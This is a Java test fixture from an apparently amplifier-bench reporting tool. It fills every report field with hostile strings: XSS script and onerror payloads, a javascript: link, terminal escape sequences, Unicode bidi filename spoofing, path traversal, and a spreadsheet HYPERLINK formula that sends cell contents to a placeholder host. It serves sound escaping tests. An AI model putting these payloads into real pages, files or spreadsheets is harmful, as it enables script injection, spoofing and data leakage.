package loadwalk.report;

import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalInt;
import java.util.OptionalLong;
import loadwalk.bench.Amplifier;
import loadwalk.bench.Bench;
import loadwalk.bench.LoadResistor;
import loadwalk.bench.Meter;
import loadwalk.bench.Mode;
import loadwalk.bench.Rating;
import loadwalk.bench.ReadingId;
import loadwalk.bench.Supply;
import loadwalk.report.page.Walks;
import loadwalk.walk.Event;
import loadwalk.walk.Intent;
import loadwalk.walk.fact.WalkState;

/** A walk whose every text means harm. */
public final class Hostile {
  public static final String MARKUP =
      "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&lt;";
  public static final String STEERING = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\r\n\u2028";
  public static final String TURNING = "\u202egnp.exe\u2066\u200f\ufeff";
  public static final String FORMULA = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"win\")";
  public static final String LINK =
      "[click](javascript:alert(3)) ![x](http://example.invalid/a.png) `code` | * # @all";
  public static final List<String> ALL = List.of(MARKUP, STEERING, TURNING, FORMULA, LINK);

  private Hostile() {}

  public static WalkState walk() {
    return walkOf(String.join(" ", ALL));
  }

  public static WalkState walkOf(String maker) {
    String everything = String.join(" ", ALL);
    String long10k = FORMULA + "W".repeat(10_000);
    Amplifier amplifier =
        new Amplifier(
            maker,
            long10k,
            Optional.of(FORMULA),
            OptionalInt.of(1992),
            Optional.of(LINK),
            OptionalInt.of(2),
            List.of(new Rating(Mode.STEREO, 4, 50, OptionalDouble.empty(), OptionalDouble.empty())),
            OptionalDouble.empty(),
            OptionalDouble.empty(),
            List.of(30.0),
            Optional.empty());
    Bench bench =
        new Bench(
            FORMULA + everything,
            List.of(new Supply(13.8, 80)),
            List.of(),
            OptionalDouble.empty(),
            List.of(new LoadResistor(MARKUP, 4, 1, 300, 4, OptionalDouble.empty())),
            List.of(
                new Meter(TURNING + LINK, ReadingId.OUTPUT_VOLTS, 0.5, 2, 0.01, Optional.empty())),
            0.9);
    Walks w = Walks.opened("stereo-only", amplifier, bench, OptionalLong.empty());
    w.begin();
    w.hear(new Intent.Note(everything));
    w.hear(new Intent.Note("+" + long10k));
    String path = "sessions/../" + everything + ".png";
    w.hear(new Event.PhotoKept(path, everything, "0f".repeat(32), "image/png"));
    w.hear(new Intent.EndEarly("@SUM(A1) early " + everything));
    w.begin();
    w.enter("idle", ReadingId.SUPPLY_AMPS, "1.6 A");
    w.hear(new Intent.Finish());
    w.begin();
    w.enter("stereo-4", ReadingId.OUTPUT_VOLTS, "140 V");
    w.standByAll("stereo-4", "-2+3 " + everything);
    w.hear(new Intent.Finish());
    w.hear(new Intent.Stop());
    w.hear(new Intent.ExplainStop(everything));
    w.hear(new Intent.Resume());
    while (!w.state().isFinished()) {
      w.hear(new Intent.Skip(everything + long10k));
    }
    return w.state();
  }
}
